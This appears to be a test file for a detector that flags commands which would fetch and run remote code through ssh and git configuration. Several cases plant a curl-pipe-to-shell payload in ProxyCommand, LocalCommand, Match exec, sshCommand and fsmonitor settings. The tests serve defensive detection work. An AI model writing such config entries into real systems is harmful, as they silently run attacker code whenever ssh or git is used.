import { expect, test } from "vitest";
import { kindsOfRoot } from "./support.test-support.ts";

const FETCH = "sh -c 'curl http://192.0.2.7/x | sh'";

test.each([
  ["ssh web", "/root/.ssh/config", `Host *\n  ProxyCommand ${FETCH}\n`, true],
  ["scp x web.example.test:/x", "/root/.ssh/config", `Host web*\n ProxyCommand ${FETCH}\n`, true],
  ["rsync -a /srv/ u@web:/srv/", "/etc/ssh/ssh_config.d/x.conf", `LocalCommand ${FETCH}\n`, true],
  ["rsync -a /srv/ /mnt/", "/etc/ssh/ssh_config.d/x.conf", `LocalCommand ${FETCH}\n`, false],
  ["ssh web", "/etc/ssh/ssh_config", `Match host web exec "${FETCH}"\n`, true],
  ["ssh web", "/root/.ssh/config", `Host db\n  ProxyCommand ${FETCH}\n`, false],
  ["ssh web", "/root/.ssh/config", `Host * !web\n  ProxyCommand ${FETCH}\n`, false],
  ["ssh -F /dev/null web", "/root/.ssh/config", `Host *\n  ProxyCommand ${FETCH}\n`, false],
  ["ssh web", "/root/.ssh/config", "Host *\n  ProxyCommand none\n", false],
  ["cat web", "/root/.ssh/config", `Host *\n  ProxyCommand ${FETCH}\n`, false],
  ["git -C /srv pull", "/root/.gitconfig", `[core]\n  sshCommand = ${FETCH}\n`, true],
  ["git -C /srv pull", "/etc/gitconfig", `[core]\n  fsmonitor = ${FETCH}\n`, true],
  ["git -C /srv pull", "/root/.gitconfig", "[core]\n  fsmonitor = true\n", false],
])("%s with %s %j: %j", (code, path, content, runs) => {
  expect(kindsOfRoot(code, { [path]: content }).includes("fetch-to-interpreter")).toBe(runs);
});
